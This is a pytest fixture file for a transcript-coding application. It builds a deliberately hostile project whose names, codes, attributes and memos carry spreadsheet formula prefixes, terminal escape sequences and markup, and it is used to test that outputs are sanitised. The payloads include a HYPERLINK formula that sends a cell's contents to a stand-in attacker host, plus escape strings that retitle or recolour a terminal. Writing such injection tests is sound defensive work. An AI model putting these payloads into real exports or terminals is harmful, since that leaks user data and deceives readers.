"""A hostile project: every user-supplied string starts a formula or carries escape sequences.

Transcript text, speaker, transcript name, code names/numbers/descriptions,
attribute keys and values, coder names and memos. The transcript goes in
through the store (as a project written before imports were sanitised, or
a hostile merge source, would hold it), so the outputs are tested on raw
control characters whatever the importer does.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from codebench.codebook import edits
from codebench.ids import stable_guid
from codebench.project import Project
from codebench.store import events as event_sql
from codebench.store import transcripts as transcript_sql

#: Sets the terminal title, turns text red, reverses text, NUL, 8-bit CSI, DEL, BEL.
CONTROLS = "\x1b]0;pwned\x07\x1b[31m\u202e\x00\x9b\x7f"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
#: Rich/Textual markup that must show as typed.
MARKUP = "[bold red]loud[/] [link=http://evil.example]x[/link]"
#: Characters that must never reach a terminal or a document raw.
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\x00", "\x7f")

TRANSCRIPT = "=evil" + CONTROLS
SPEAKER = "@Ann" + CONTROLS
CODER_A = "@alice" + CONTROLS
CODER_B = "-bob [b]B[/b]" + CONTROLS
PLAIN = "plain [i]x[/i]"
SEGMENTS = [
    FORMULA + " said Ann.",
    "+1 for the board.",
    "-2+3 is what they pay.",
    "@SUM(A1:A2) here " + CONTROLS,
    "\tTabbed start.",
    "\rCarriage start.",
    MARKUP + " end.",
]


def _insert_transcript(project: Project, name: str, segments: list[str], speaker: str) -> None:
    """Store a transcript whose text is exactly ``segments`` joined by newlines, one segment each."""
    text = "\n".join(segments) + "\n"
    spans, start = [], 0
    for ordinal, segment in enumerate(segments):
        end = start + len(segment)
        spans.append((ordinal, start, end, speaker, 1, ordinal, ordinal, None))
        start = end + 1
    sha = stable_guid("test-sha", text)
    with project.transaction():
        transcript_id = transcript_sql.insert_transcript(
            project.db,
            {
                "guid": stable_guid("transcript", sha),
                "name": name,
                "text": text,
                "sha256": sha,
                "source_name": name + ".txt",
                "source_format": "txt",
                "language": "en",
                "unit": "sentence",
                "imported_at": "2024-01-01T00:00:00Z",
            },
        )
        transcript_sql.insert_segments(project.db, transcript_id, spans)
        event_sql.log(project.db, "transcript.import", {"name": name}, transcript_id=transcript_id)


def build_hostile(path: Path) -> Project:
    project = Project.init(path, None)
    first = edits.add_code(
        project,
        CODER_A,
        FORMULA,
        number="",
        description="+1 definition " + CONTROLS,
        inclusion="@use " + MARKUP,
        exclusion="-not this",
        example="=1+1",
        colour="#4E79A7",
    )
    second = edits.add_code(project, CODER_A, "-2+3 code" + CONTROLS, number="", description=MARKUP)
    third = edits.add_code(project, CODER_A, "$x^{ " + MARKUP, number="")  # mathtext, markup
    _insert_transcript(project, TRANSCRIPT, SEGMENTS, SPEAKER)
    _insert_transcript(project, PLAIN, ["Just text.", "More text."], "Bo")
    project.set_attributes(TRANSCRIPT, {"=role" + CONTROLS: "-2+3" + CONTROLS, "sector": "@x"})
    project.set_attributes(PLAIN, {"=role" + CONTROLS: "+staff", "sector": "=1"})
    codes = [first, second, third]
    for coder, picks in ((CODER_A, (0, 1, 2)), (CODER_B, (0, 2))):
        for ordinal in range(len(SEGMENTS)):
            for index in picks:
                if (ordinal + index) % 2 == 0 or index == 0:
                    project.code_segments(coder, TRANSCRIPT, [ordinal], codes[index])
        project.code_segments(coder, PLAIN, [0], codes[0])
        project.set_status(coder, TRANSCRIPT, "done")
        project.set_status(coder, PLAIN, "done")
    coding = next(iter(project.codings(transcript=TRANSCRIPT, coders=[CODER_A])))
    project.add_memo(CODER_A, "=memo " + CONTROLS + " " + MARKUP, coding=coding)
    project.add_memo(CODER_B, "@memo on segment", segment=project.segment(TRANSCRIPT, 2))
    return project


@pytest.fixture(scope="session")
def hostile_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "template.db"
    build_hostile(path).close()
    return path


@pytest.fixture
def hostile_path(hostile_template: Path, tmp_path: Path) -> Path:
    """A fresh copy of the hostile project for one test."""
    import shutil

    target = tmp_path / "hostile.db"
    shutil.copy(hostile_template, target)
    return target


@pytest.fixture
def hostile(hostile_path: Path) -> Iterator[Project]:
    project = Project.open(hostile_path)
    yield project
    project.close()


def raw_controls(text: str) -> list[str]:
    """The dangerous characters present in ``text`` (empty when it is safe to print)."""
    return [repr(c) for c in RAW if c in text]
